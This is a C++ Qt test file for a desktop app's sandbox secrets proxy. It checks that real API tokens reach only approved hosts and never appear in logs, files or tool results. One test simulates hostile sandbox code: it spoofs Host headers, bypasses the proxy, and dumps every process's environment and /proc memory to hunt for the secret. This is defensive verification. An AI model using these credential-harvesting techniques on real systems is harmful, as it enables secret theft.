// SPDX-FileCopyrightText: 2026 HOPX Desktop developers
// SPDX-License-Identifier: MIT
// Secrets through a real app, real sandboxes and the real keychain (run inside with-keyring.sh):
// a test API on 127.0.0.1 (plain HTTP, and TLS with its own test CA) reached by name through
// the settings' host map. curl, Python requests and Node fetch in a sandbox send
// "Authorization: Bearer $API_TOKEN" and the API receives the value; the same placeholder to a
// host the secret does not belong to arrives unreplaced; and the value is found nowhere the
// sandbox, the tool results, the log or the settings could show it.
#include "support/RootsClient.h"

#include <QDirIterator>
#include <QJsonDocument>
#include <QRandomGenerator>
#include <QSettings>
#include <QTest>

#include <unistd.h>

using namespace HopxTest;

class TestSecretEgress : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_pki;
    QProcess m_api;
    int m_httpPort = 0;
    int m_httpsPort = 0;
    QByteArray m_value;
    std::unique_ptr<HeadlessApp> m_app;
    std::unique_ptr<HeadlessApp> m_restarted; // m_app after a kill -9: the same settings, disks
    std::unique_ptr<QLocalSocket> m_socket;
    std::unique_ptr<RootsClient> m_client;
    QString m_log;
    QString m_id;
    QByteArray m_results; // every tool result this test saw

    QJsonObject tool(const QString &name, const QJsonObject &args)
    {
        const QJsonObject r = m_client->tool(name, args, 180000);
        m_results += QJsonDocument(r).toJson(QJsonDocument::Compact) + '\n';
        return r;
    }
    static QJsonObject sc(const QJsonObject &r)
    {
        return r.value(QStringLiteral("structuredContent")).toObject();
    }
    static QString dump(const QJsonObject &o)
    {
        return QString::fromUtf8(QJsonDocument(o).toJson());
    }
    QJsonObject command(const QString &cmd)
    {
        return sc(tool(QStringLiteral("run_command"),
            {{"sandbox_id", m_id}, {"command", cmd}, {"timeout", 120}}));
    }
    QJsonObject exec(const QString &code, const QString &language)
    {
        return sc(tool(QStringLiteral("execute_code"),
            {{"sandbox_id", m_id}, {"code", code}, {"language", language}, {"timeout", 120}}));
    }
    //! The API's JSON answer inside \a r's stdout.
    static QJsonObject answer(const QJsonObject &r)
    {
        const QString out = r.value(QStringLiteral("stdout")).toString();
        const int brace = out.indexOf(QLatin1Char('{'));
        return QJsonDocument::fromJson(out.mid(brace).toUtf8()).object();
    }
    QString url(const QString &host, bool tls) const
    {
        return QStringLiteral("%1://%2:%3")
            .arg(tls ? QStringLiteral("https") : QStringLiteral("http"), host)
            .arg(tls ? m_httpsPort : m_httpPort);
    }
    QString appLog() const
    {
        QFile f(m_log);
        return f.open(QIODevice::ReadOnly) ? QString::fromUtf8(f.readAll()) : QString();
    }
    //! Files under \a dir that contain \a needle (sockets and unreadable files skipped).
    static QStringList filesContaining(const QString &dir, const QByteArray &needle)
    {
        QStringList hits;
        QDirIterator it(dir, QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
        while (it.hasNext()) {
            QFile f(it.next());
            if (f.size() < (512 << 20) && f.open(QIODevice::ReadOnly)
                && f.readAll().contains(needle))
                hits << f.fileName();
        }
        return hits;
    }
    bool openssl(const QStringList &args)
    {
        QProcess p;
        p.setWorkingDirectory(m_pki.path());
        p.setProcessChannelMode(QProcess::ForwardedErrorChannel);
        p.start(QStringLiteral("openssl"), args);
        return p.waitForFinished(30000) && p.exitCode() == 0;
    }
    //! A test CA and a certificate for the TLS names, as a real API's would be.
    bool makePki()
    {
        QFile ext(m_pki.filePath(QStringLiteral("ext.cnf")));
        if (!ext.open(QIODevice::WriteOnly)
            || ext.write("subjectAltName=DNS:secure.test,DNS:othersecure.test\n") < 0)
            return false;
        ext.close();
        return openssl({"req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                   "-nodes", "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj",
                   "/CN=HOPX secrets test API CA"})
            && openssl({"req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                "-keyout", "api.key", "-out", "api.csr", "-subj", "/CN=secure.test"})
            && openssl({"x509", "-req", "-in", "api.csr", "-CA", "ca.pem", "-CAkey", "ca.key",
                "-CAcreateserial", "-out", "api.pem", "-days", "2", "-extfile", "ext.cnf"});
    }
    bool startApi()
    {
        m_api.setProgram(QStringLiteral("/usr/bin/python3"));
        m_api.setArguments({QStringLiteral(HOPX_SOURCE_DIR "/tests/secrets/test_api.py"),
            m_pki.filePath(QStringLiteral("api.pem")), m_pki.filePath(QStringLiteral("api.key"))});
        m_api.setProcessChannelMode(QProcess::ForwardedErrorChannel);
        m_api.start();
        if (!m_api.waitForStarted(5000))
            return false;
        m_api.write(m_value + '\n');
        QByteArray out;
        while (!out.contains('\n') && m_api.waitForReadyRead(20000))
            out += m_api.readAll();
        const QList<QByteArray> parts = out.trimmed().split(' ');
        if (parts.size() != 3 || parts.at(0) != "PORTS")
            return false;
        m_httpPort = parts.at(1).toInt();
        m_httpsPort = parts.at(2).toInt();
        return true;
    }
    int cli(const QStringList &args, const QByteArray &in = {})
    {
        QProcess p;
        p.setProcessEnvironment(m_app->environment());
        p.setProcessChannelMode(QProcess::ForwardedErrorChannel);
        p.start(QStringLiteral(HOPX_BIN_DIR "/hopx-desktop"), args);
        p.write(in);
        p.closeWriteChannel();
        return p.waitForFinished(30000) ? p.exitCode() : -1;
    }

private slots:
    void initTestCase()
    {
        if (qEnvironmentVariable("HOPX_KEYCHAIN_EXPECT") != QLatin1String("available"))
            QSKIP("needs a Secret Service (run through tests/with-keyring.sh)");
        if (::access("/usr/bin/bwrap", X_OK) != 0)
            QSKIP("bubblewrap is not installed (scripts/test.sh installs it)");
        m_value = "tok-" + QByteArray::number(QRandomGenerator::system()->generate64(), 16);
        QVERIFY(makePki());
        QVERIFY(startApi());
        m_app = std::make_unique<HeadlessApp>();
        QSettings settings(
            m_app->root() + QStringLiteral("/xdg_config_home/hopx-desktop/hopx-desktop.ini"),
            QSettings::IniFormat);
        // Four names for the one loopback API, each on one port only: no other address.
        settings.setValue(QStringLiteral("network/hostMap"),
            QStringList {QStringLiteral("api.test=127.0.0.1:%1").arg(m_httpPort),
                QStringLiteral("other.test=127.0.0.1:%1").arg(m_httpPort),
                QStringLiteral("secure.test=127.0.0.1:%1").arg(m_httpsPort),
                QStringLiteral("othersecure.test=127.0.0.1:%1").arg(m_httpsPort)});
        // The API's own CA, as a company's would be: trusted for upstream TLS only.
        settings.setValue(QStringLiteral("network/upstreamCaFiles"),
            QStringList {m_pki.filePath(QStringLiteral("ca.pem"))});
        settings.sync();
        QCOMPARE(cli({"--set-secret", "API_TOKEN", "--hosts", "api.test,secure.test",
                         "--secret-in-query", "--secret-in-body"},
                     m_value),
            0);
        m_log = m_app->root() + QStringLiteral("/app.log");
        m_app->process().setProcessChannelMode(QProcess::SeparateChannels);
        m_app->process().setStandardErrorFile(m_log);
        QVERIFY(m_app->start());
        m_socket = m_app->connect();
        QVERIFY(m_socket);
        m_client = std::make_unique<RootsClient>(m_socket.get(), QStringList(), true);
        QVERIFY(m_client->ok());
    }

    void cleanupTestCase()
    {
        m_client.reset();
        m_socket.reset();
        m_restarted.reset();
        m_app.reset();
        m_api.closeWriteChannel();
        m_api.waitForFinished(5000);
    }

    void unknownOrDeclinedSecretsCreateNothing()
    {
        QJsonObject r = tool(QStringLiteral("create_sandbox"), {{"secrets", QJsonArray {"NOPE"}}});
        QVERIFY2(r.value(QStringLiteral("isError")).toBool(), qPrintable(dump(r)));
        QVERIFY2(dump(r).contains(QLatin1String("API_TOKEN")), qPrintable(dump(r)));
        r = tool(QStringLiteral("create_sandbox"),
            {{"secrets", QJsonArray {"API_TOKEN"}}, {"network", "full"}});
        QVERIFY2(r.value(QStringLiteral("isError")).toBool(), qPrintable(dump(r)));
        r = tool(QStringLiteral("create_sandbox"),
            {{"secrets", QJsonArray {"API_TOKEN"}}, {"provider", "hopx"}});
        QVERIFY2(dump(r).contains(QLatin1String("not supported by the HOPX cloud")),
            qPrintable(dump(r)));
        m_client->allow = false;
        const int asked = m_client->questions.size();
        r = tool(QStringLiteral("create_sandbox"), {{"secrets", QJsonArray {"API_TOKEN"}}});
        m_client->allow = true;
        QVERIFY2(r.value(QStringLiteral("isError")).toBool(), qPrintable(dump(r)));
        QCOMPARE(m_client->questions.size(), asked + 1);
        QVERIFY(m_client->questions.last().contains(QLatin1String("API_TOKEN")));
        QCOMPARE(
            sc(tool(QStringLiteral("list_sandboxes"), {})).value(QStringLiteral("count")).toInt(),
            0);
    }

    void createWithASecret()
    {
        const int asked = m_client->questions.size();
        const QJsonObject r = tool(QStringLiteral("create_sandbox"),
            {{"secrets", QJsonArray {"API_TOKEN"}},
                {"network", QJsonArray {"other.test", "othersecure.test"}}});
        m_id = sc(r).value(QStringLiteral("id")).toString();
        QVERIFY2(m_id.startsWith(QLatin1String("local-")), qPrintable(dump(r)));
        QCOMPARE(m_client->questions.size(), asked + 1); // asked once, for this sandbox
        QCOMPARE(sc(r).value(QStringLiteral("secrets")).toArray(), QJsonArray {"API_TOKEN"});
        const QString env =
            command(QStringLiteral("printenv API_TOKEN")).value("stdout").toString();
        QVERIFY2(env.startsWith(QLatin1String("hopxph_")), qPrintable(env));
    }

    void curlPlainAndTls()
    {
        for (bool tls : {false, true}) {
            const QJsonObject r = command(
                QStringLiteral("curl -sS -H \"Authorization: Bearer $API_TOKEN\" "
                               "\"%1/get?key=$API_TOKEN\"")
                    .arg(url(
                        tls ? QStringLiteral("secure.test") : QStringLiteral("api.test"), tls)));
            QCOMPARE(answer(r).value("auth").toString(), QStringLiteral("ok"));
            QCOMPARE(answer(r).value("query").toString(), QStringLiteral("ok"));
            const QJsonObject post = command(
                QStringLiteral("curl -sS -H 'Content-Type: application/json' "
                               "-d \"{\\\"key\\\": \\\"$API_TOKEN\\\"}\" %1/post")
                    .arg(url(
                        tls ? QStringLiteral("secure.test") : QStringLiteral("api.test"), tls)));
            QVERIFY2(answer(post).value("body").toString() == QLatin1String("ok"),
                qPrintable(dump(post)));
        }
        QVERIFY(appLog().contains(QLatin1String("secret API_TOKEN used for secure.test")));
        QVERIFY(appLog().contains(QLatin1String("secret API_TOKEN used for api.test")));
    }

    void clearingTheEnvironmentKeepsTheSecrets()
    {
        const QString placeholder =
            command(QStringLiteral("printenv API_TOKEN")).value("stdout").toString().trimmed();
        QVERIFY(placeholder.startsWith(QLatin1String("hopxph_")));
        // Only create_sandbox can give a secret's variable back: a clear or a replacement keeps
        // it, and the code can still use the secret.
        QVERIFY(!sc(tool(QStringLiteral("env_clear"), {{"sandbox_id", m_id}}))
                     .contains(QStringLiteral("error")));
        QCOMPARE(command(QStringLiteral("printenv API_TOKEN")).value("stdout").toString().trimmed(),
            placeholder);
        QVERIFY(!sc(tool(QStringLiteral("env_set"),
                        {{"sandbox_id", m_id}, {"env_vars", QJsonObject {{"OTHER", "1"}}},
                            {"merge", false}}))
                     .contains(QStringLiteral("error")));
        QCOMPARE(command(QStringLiteral("printenv API_TOKEN OTHER")).value("stdout").toString(),
            placeholder + QStringLiteral("\n1\n"));
        const QJsonObject r =
            command(QStringLiteral("curl -sS -H \"Authorization: Bearer $API_TOKEN\" %1/get")
                        .arg(url(QStringLiteral("api.test"), false)));
        QCOMPARE(answer(r).value("auth").toString(), QStringLiteral("ok"));
    }

    void pythonRequestsAndNodeFetch()
    {
        const QJsonObject py =
            exec(QStringLiteral("import os, requests\n"
                                "r = requests.get('%1/py', headers={'Authorization': 'Bearer ' + "
                                "os.environ['API_TOKEN']})\n"
                                "print(r.text)")
                     .arg(url(QStringLiteral("secure.test"), true)),
                QStringLiteral("python"));
        QVERIFY2(answer(py).value("auth").toString() == QLatin1String("ok"), qPrintable(dump(py)));
        // Node 20's fetch does not read HTTPS_PROXY: a dispatcher whose connector opens the
        // tunnel through it, as any proxied Node program does (undici's ProxyAgent, or
        // NODE_USE_ENV_PROXY from Node 24 on).
        const QJsonObject node = exec(QStringLiteral(R"(
const http = require('http'), tls = require('tls');
const Agent = (() => { fetch('data:,'); return globalThis[Symbol.for('undici.globalDispatcher.1')].constructor; })();
const proxy = new URL(process.env.HTTPS_PROXY);
const connect = (opts, cb) => {
  http.request({host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: `${opts.hostname}:${opts.port}`})
    .on('connect', (res, socket) => {
      if (res.statusCode !== 200) return cb(new Error('proxy said ' + res.statusCode));
      const s = tls.connect({socket, servername: opts.servername || opts.hostname, ALPNProtocols: ['http/1.1']}, () => cb(null, s));
      s.on('error', cb);
    }).on('error', cb).end();
};
fetch('%1/node', {headers: {Authorization: `Bearer ${process.env.API_TOKEN}`}, dispatcher: new Agent({connect})})
  .then(r => r.text()).then(t => console.log(t), e => console.log('failed', e, e.cause));
)")
                                          .arg(url(QStringLiteral("secure.test"), true)),
            QStringLiteral("javascript"));
        QVERIFY2(
            answer(node).value("auth").toString() == QLatin1String("ok"), qPrintable(dump(node)));
    }

    void otherHostsGetThePlaceholder()
    {
        for (bool tls : {false, true}) {
            // -k for the TLS host: it is a blind tunnel, so the sandbox meets the API's own
            // certificate, whose test CA it does not trust (a real API's would be public).
            const QJsonObject r = command(
                QStringLiteral("curl -sS %2 -H \"Authorization: Bearer $API_TOKEN\" "
                               "-d \"{\\\"key\\\": \\\"$API_TOKEN\\\"}\" \"%1/x?key=$API_TOKEN\"")
                    .arg(
                        url(tls ? QStringLiteral("othersecure.test") : QStringLiteral("other.test"),
                            tls),
                        tls ? QStringLiteral("-k") : QString()));
            const QJsonObject a = answer(r);
            QVERIFY2(a.value("auth").toString().startsWith(QLatin1String("Bearer hopxph_")),
                qPrintable(dump(r)));
            QVERIFY2(a.value("query").toString().startsWith(QLatin1String("key=hopxph_")),
                qPrintable(dump(r)));
            QVERIFY2(
                a.value("body").toString().contains(QLatin1String("hopxph_")), qPrintable(dump(r)));
        }
        QVERIFY(appLog().contains(QLatin1String("secret API_TOKEN offered to other.test")));
        // A host without a secret is a blind tunnel: the sandbox sees the API's own certificate.
        const QString blind =
            command(QStringLiteral("curl -skv -o /dev/null %1/ 2>&1 | grep -i issuer")
                        .arg(url(QStringLiteral("othersecure.test"), true)))
                .value("stdout")
                .toString();
        QVERIFY2(blind.contains(QLatin1String("HOPX secrets test API CA")), qPrintable(blind));
        const QString ours =
            command(QStringLiteral("curl -sv -o /dev/null %1/ 2>&1 | grep -i issuer")
                        .arg(url(QStringLiteral("secure.test"), true)))
                .value("stdout")
                .toString();
        QVERIFY2(ours.contains(QLatin1String("HOPX Desktop egress CA")), qPrintable(ours));
    }

    //! Python in the sandbox \a id: GETs (or a POST) over HTTPS, one connection each, the
    //! answers as a JSON list (the API's answer, else the status and text).
    QJsonArray requests(const QString &id, const QString &calls)
    {
        const QJsonObject r = sc(tool(QStringLiteral("execute_code"),
            {{"sandbox_id", id}, {"timeout", 120},
                {"code",
                    QStringLiteral(R"(
import json, os, time, requests
def get(host, path, token, post=False):
    r = (requests.post if post else requests.get)(f'https://{host}:%1{path}',
        headers={'Authorization': 'Bearer ' + os.environ.get(token, token)})
    return r.json() if r.status_code == 200 else {'status': r.status_code, 'text': r.text}
out = []
%2
print(json.dumps(out))
)")
                        .arg(m_httpsPort)
                        .arg(calls)}}));
        const QJsonArray answers =
            QJsonDocument::fromJson(r.value(QStringLiteral("stdout")).toString().toUtf8()).array();
        if (answers.isEmpty())
            qWarning().noquote() << dump(r);
        return answers;
    }

    void keptConnectionsStayWithTheirSandboxAndHost()
    {
        // The proxy keeps its TLS connections to a secret's host for the next request of the
        // same sandbox to the same host: the API's "conn" (the proxy's port) says which one
        // carried a request.
        const QJsonArray a = requests(m_id,
            QStringLiteral("out.append(get('secure.test', '/a1', 'API_TOKEN'))\n"
                           "out.append(get('secure.test', '/a2', 'API_TOKEN'))"));
        QCOMPARE(a.size(), 2);
        const QJsonObject a1 = a.at(0).toObject(), a2 = a.at(1).toObject();
        QCOMPARE(a1.value("auth").toString(), QStringLiteral("ok"));
        QCOMPARE(a2.value("auth").toString(), QStringLiteral("ok"));
        QCOMPARE(a1.value("sni").toString(), QStringLiteral("secure.test"));
        QCOMPARE(a2.value("conn"), a1.value("conn")); // kept, not a second handshake

        // A second sandbox with its own secrets for the same API under two names.
        const QByteArray poolValue =
            "pool-" + QByteArray::number(QRandomGenerator::system()->generate64(), 16);
        const QByteArray otherValue =
            "other-" + QByteArray::number(QRandomGenerator::system()->generate64(), 16);
        QCOMPARE(cli({"--set-secret", "POOL_TOKEN", "--hosts", "secure.test,othersecure.test"},
                     poolValue),
            0);
        QCOMPARE(cli({"--set-secret", "POOL_OTHER", "--hosts", "othersecure.test"}, otherValue), 0);
        const QJsonObject created = sc(tool(QStringLiteral("create_sandbox"),
            {{"secrets", QJsonArray {"POOL_TOKEN", "POOL_OTHER"}}}));
        const QString b = created.value(QStringLiteral("id")).toString();
        QVERIFY2(b.startsWith(QLatin1String("local-")), qPrintable(dump(created)));
        const QString placeholderA =
            command(QStringLiteral("printenv API_TOKEN")).value("stdout").toString().trimmed();
        const QJsonArray bs = requests(b,
            QStringLiteral("out.append(get('othersecure.test', '/b1', 'POOL_TOKEN'))\n"
                           "out.append(get('secure.test', '/b2', 'POOL_TOKEN'))\n"
                           "out.append(get('othersecure.test', '/b3', 'POOL_TOKEN'))\n"
                           "out.append(get('secure.test', '/b4', '%1'))")
                .arg(placeholderA));
        QCOMPARE(bs.size(), 4);
        const QString bearerPool = QStringLiteral("Bearer ") + QString::fromLatin1(poolValue);
        const QJsonObject b1 = bs.at(0).toObject(), b2 = bs.at(1).toObject(),
                          b3 = bs.at(2).toObject(), b4 = bs.at(3).toObject();
        QCOMPARE(b1.value("auth").toString(), bearerPool);
        QCOMPARE(b1.value("sni").toString(), QStringLiteral("othersecure.test"));
        QCOMPARE(b2.value("auth").toString(), bearerPool);
        QCOMPARE(b2.value("sni").toString(), QStringLiteral("secure.test"));
        // Never the first sandbox's connection, never one to the other name.
        QVERIFY(b1.value("conn") != a1.value("conn") && b2.value("conn") != a1.value("conn"));
        QVERIFY(b2.value("conn") != b1.value("conn"));
        QCOMPARE(b3.value("conn"), b1.value("conn")); // its own, kept per host
        // The first sandbox's placeholder from the second goes out as it is, on the second's
        // own kept connection.
        QCOMPARE(b4.value("auth").toString(), QStringLiteral("Bearer ") + placeholderA);
        QCOMPARE(b4.value("conn"), b2.value("conn"));
        const QJsonArray again =
            requests(m_id, QStringLiteral("out.append(get('secure.test', '/a3', 'API_TOKEN'))"));
        QCOMPARE(again.size(), 1);
        QCOMPARE(again.at(0).toObject().value("auth").toString(), QStringLiteral("ok"));
        QVERIFY(again.at(0).toObject().value("conn") != b2.value("conn"));

        // Revoked: not swapped in on the kept connection the next request takes.
        QCOMPARE(cli({"--remove-secret", "POOL_TOKEN"}), 0);
        QTRY_VERIFY_WITH_TIMEOUT(
            appLog().contains(QLatin1String("secret POOL_TOKEN revoked")), 10000);
        const QJsonArray revoked = requests(b,
            QStringLiteral("out.append(get('othersecure.test', '/warm', 'POOL_OTHER'))\n"
                           "out.append(get('othersecure.test', '/b5', 'POOL_TOKEN'))"));
        QCOMPARE(revoked.size(), 2);
        QCOMPARE(revoked.at(1).toObject().value("conn"), revoked.at(0).toObject().value("conn"));
        QVERIFY2(revoked.at(1).toObject().value("auth").toString().startsWith(
                     QLatin1String("Bearer hopxph_")),
            qPrintable(QString::fromUtf8(QJsonDocument(revoked).toJson())));

        // The API closes a kept connection: while idle (noticed), and just as the next request
        // goes out (that GET goes again on a new connection; a POST is not sent again).
        const QJsonArray closed = requests(b,
            QStringLiteral("out.append(get('othersecure.test', '/close-after', 'POOL_OTHER'))\n"
                           "time.sleep(0.5)\n"
                           "out.append(get('othersecure.test', '/next', 'POOL_OTHER'))\n"
                           "out.append(get('othersecure.test', '/drop-next', 'POOL_OTHER'))\n"
                           "out.append(get('othersecure.test', '/after-drop', 'POOL_OTHER'))\n"
                           "out.append(get('othersecure.test', '/drop-next', 'POOL_OTHER'))\n"
                           "out.append(get('othersecure.test', '/post', 'POOL_OTHER', True))"));
        const QString text = QString::fromUtf8(QJsonDocument(closed).toJson());
        QCOMPARE(closed.size(), 6);
        const QString bearerOther = QStringLiteral("Bearer ") + QString::fromLatin1(otherValue);
        QCOMPARE(closed.at(1).toObject().value("auth").toString(), bearerOther);
        QVERIFY2(closed.at(1).toObject().value("conn") != closed.at(0).toObject().value("conn"),
            qPrintable(text));
        QCOMPARE(closed.at(3).toObject().value("auth").toString(), bearerOther);
        QVERIFY2(closed.at(3).toObject().value("conn") != closed.at(2).toObject().value("conn"),
            qPrintable(text));
        QVERIFY(appLog().contains(
            QLatin1String("a kept connection to othersecure.test was closed by the API")));
        QCOMPARE(closed.at(5).toObject().value("status").toInt(), 502);
        QVERIFY2(closed.at(5).toObject().value("text").toString().contains(
                     QLatin1String("not sent again")),
            qPrintable(text));

        tool(QStringLiteral("delete_sandbox"), {{"id", b}});
        QCOMPARE(cli({"--remove-secret", "POOL_OTHER"}), 0);
    }

    void hostileCodeNeverGetsTheValue()
    {
        // By hand on the proxy's socket: a Host header naming the secret's host does not make
        // a request to another host carry the value.
        const QJsonObject byHand =
            exec(QStringLiteral(
                     "import os, socket\n"
                     "p = os.environ['API_TOKEN']\n"
                     "s = socket.socket(socket.AF_UNIX); s.connect('/run/sbx/net/proxy.sock')\n"
                     "s.sendall(('GET http://other.test:%1/h?key=' + p + ' HTTP/1.1\\r\\nHost: "
                     "api.test\\r\\n'\n"
                     "  'Authorization: Bearer ' + p + '\\r\\n\\r\\n').encode())\n"
                     "out = b''\n"
                     "while chunk := s.recv(65536): out += chunk\n"
                     "print(out.decode())")
                     .arg(m_httpPort),
                QStringLiteral("python"));
        QVERIFY2(
            answer(byHand).value("auth").toString().startsWith(QLatin1String("Bearer hopxph_")),
            qPrintable(dump(byHand)));
        // Straight to the API, past the proxy: there is no way out.
        const QJsonObject direct = exec(
            QStringLiteral(
                "import socket\n"
                "try:\n socket.create_connection(('127.0.0.1', %1), timeout=5); print('reached')\n"
                "except OSError as e: print('refused', e)")
                .arg(m_httpPort),
            QStringLiteral("python"));
        QVERIFY2(direct.value("stdout").toString().startsWith(QLatin1String("refused")),
            qPrintable(dump(direct)));
        // Everything readable in the sandbox: every process's environment and memory, into
        // the workspace, where the host side greps it below.
        const QJsonObject mem = exec(QStringLiteral(R"(
import os, re
out = open('/workspace/everything.bin', 'wb')
for pid in filter(str.isdigit, os.listdir('/proc')):
    for name in ('environ', 'cmdline'):
        try: out.write(open(f'/proc/{pid}/{name}', 'rb').read())
        except OSError: pass
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines(); mem = open(f'/proc/{pid}/mem', 'rb', 0)
    except OSError: continue
    for line in maps:
        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line)
        if not m: continue
        start, end = int(m[1], 16), int(m[2], 16)
        try: mem.seek(start); out.write(mem.read(min(end - start, 16 << 20)))
        except (OSError, ValueError, OverflowError): pass
out.close(); print(os.path.getsize('/workspace/everything.bin') > 1 << 20)
)"),
            QStringLiteral("python"));
        QVERIFY2(mem.value("stdout").toString().startsWith(QLatin1String("True")),
            qPrintable(dump(mem)));
        const QJsonObject envs =
            command(QStringLiteral("env; cat /proc/*/environ | tr '\\0' '\\n'"));
        QVERIFY(envs.value("stdout").toString().contains(QLatin1String("API_TOKEN=hopxph_")));
        const QJsonObject checkpoint =
            sc(tool(QStringLiteral("checkpoint_sandbox"), {{"sandbox_id", m_id}}));
        QVERIFY2(
            checkpoint.contains(QStringLiteral("checkpoint_id")), qPrintable(dump(checkpoint)));
        const QJsonObject fork = sc(tool(QStringLiteral("fork_sandbox"), {{"sandbox_id", m_id}}));
        QVERIFY2(fork.contains(QStringLiteral("sandbox_id")) || fork.contains(QStringLiteral("id")),
            qPrintable(dump(fork)));

        // The value: nowhere in the app's files (settings, sandbox disks and records,
        // checkpoints, the fork), its log, or any tool result.
        QCOMPARE(filesContaining(m_app->root(), m_value), QStringList());
        QVERIFY(!m_results.contains(m_value));
        QVERIFY(!appLog().toUtf8().contains(m_value));
    }

    void afterARestartSecretsStillWork()
    {
        // A second sandbox also holds a secret that is removed while the app is down.
        QCOMPARE(cli({"--set-secret", "GONE_TOKEN", "--hosts", "api.test"}, "gone-value"), 0);
        const QJsonObject second = tool(QStringLiteral("create_sandbox"),
            {{"secrets", QJsonArray {"API_TOKEN", "GONE_TOKEN"}}});
        const QString other = sc(second).value(QStringLiteral("id")).toString();
        QVERIFY2(other.startsWith(QLatin1String("local-")), qPrintable(dump(second)));
        const QString placeholder =
            command(QStringLiteral("printenv API_TOKEN")).value("stdout").toString().trimmed();
        // sandbox.json keeps the names and placeholders, never the value.
        QByteArray record;
        QDirIterator it(m_app->root(), {QStringLiteral("sandbox.json")}, QDir::Files,
            QDirIterator::Subdirectories);
        while (it.hasNext()) {
            QFile f(it.next());
            // Its own, not a fork's (which names it in forked_from).
            if (f.fileName().endsWith(QLatin1Char('/') + m_id + QStringLiteral("/sandbox.json"))
                && f.open(QIODevice::ReadOnly))
                record = f.readAll();
        }
        QVERIFY2(record.contains(placeholder.toLatin1()) && record.contains("API_TOKEN"),
            record.constData());
        QVERIFY(!record.contains(m_value));

        m_client.reset();
        m_socket.reset();
        m_app->killHard();
        QCOMPARE(cli({"--remove-secret", "GONE_TOKEN"}), 0);
        m_restarted =
            std::make_unique<HeadlessApp>(QStringList(), HeadlessApp::xdgUnder(m_app->root()));
        m_log = m_app->root() + QStringLiteral("/app-restarted.log");
        m_restarted->process().setProcessChannelMode(QProcess::SeparateChannels);
        m_restarted->process().setStandardErrorFile(m_log);
        QVERIFY(m_restarted->start());
        m_socket = m_restarted->connect();
        QVERIFY(m_socket);
        m_client = std::make_unique<RootsClient>(m_socket.get(), QStringList(), true);
        QVERIFY(m_client->ok());

        QTRY_VERIFY2_WITH_TIMEOUT(
            appLog().contains(QStringLiteral("sandbox %1 holds secret API_TOKEN again").arg(m_id)),
            qPrintable(appLog().right(3000)), 60000);
        QCOMPARE(command(QStringLiteral("printenv API_TOKEN")).value("stdout").toString().trimmed(),
            placeholder);
        for (bool tls : {false, true}) {
            const QJsonObject r = command(
                QStringLiteral("curl -sS -H \"Authorization: Bearer $API_TOKEN\" %1/back")
                    .arg(url(
                        tls ? QStringLiteral("secure.test") : QStringLiteral("api.test"), tls)));
            QVERIFY2(
                answer(r).value("auth").toString() == QLatin1String("ok"), qPrintable(dump(r)));
        }
        // The secret removed meanwhile is reported: in the log, and to the model.
        QVERIFY2(
            appLog().contains(
                QStringLiteral("sandbox %1 held secret GONE_TOKEN which is gone now").arg(other)),
            qPrintable(appLog()));
        const QJsonObject note = tool(QStringLiteral("execute_code"),
            {{"sandbox_id", other}, {"code", "print(1)"}, {"timeout", 120}});
        QVERIFY2(
            dump(note).contains(QLatin1String("removed from HOPX Desktop meanwhile: GONE_TOKEN")),
            qPrintable(dump(note)));
        tool(QStringLiteral("delete_sandbox"), {{"id", other}});
        QVERIFY(!m_results.contains(m_value));
    }

    void aNewValueReachesRunningSandboxes()
    {
        // The user rotates the token with the CLI while the app runs, hosts and options as
        // they were: the running sandbox's next request carries the new value, not the old.
        const QByteArray rotated =
            "new-" + QByteArray::number(QRandomGenerator::system()->generate64(), 16);
        QCOMPARE(cli({"--set-secret", "API_TOKEN", "--hosts", "api.test,secure.test",
                         "--secret-in-query", "--secret-in-body"},
                     rotated),
            0);
        const QString curl =
            QStringLiteral("curl -sS -H \"Authorization: Bearer $API_TOKEN\" %1/rotated")
                .arg(url(QStringLiteral("api.test"), false));
        // The test API answers "ok" for the old value only, and echoes any other.
        QTRY_COMPARE_WITH_TIMEOUT(answer(command(curl)).value("auth").toString(),
            QString::fromLatin1("Bearer " + rotated), 10000);
        QVERIFY(!appLog().contains(QString::fromLatin1(rotated)));
        // And back: the value the API knows works again, at once.
        QCOMPARE(cli({"--set-secret", "API_TOKEN", "--hosts", "api.test,secure.test",
                         "--secret-in-query", "--secret-in-body"},
                     m_value),
            0);
        QTRY_COMPARE_WITH_TIMEOUT(
            answer(command(curl)).value("auth").toString(), QStringLiteral("ok"), 10000);
        QVERIFY(!m_results.contains(m_value));
    }

    void revokingStopsSubstitutionAtOnce()
    {
        QCOMPARE(cli({"--remove-secret", "API_TOKEN"}), 0);
        QTRY_VERIFY_WITH_TIMEOUT(
            appLog().contains(QLatin1String("secret API_TOKEN revoked")), 10000);
        const QJsonObject r =
            command(QStringLiteral("curl -sS -H \"Authorization: Bearer $API_TOKEN\" %1/after")
                        .arg(url(QStringLiteral("api.test"), false)));
        QVERIFY2(answer(r).value("auth").toString().startsWith(QLatin1String("Bearer hopxph_")),
            qPrintable(dump(r)));
        QVERIFY(!m_results.contains(m_value));
    }
};

QTEST_GUILESS_MAIN(TestSecretEgress)
#include "tst_secretegress.moc"
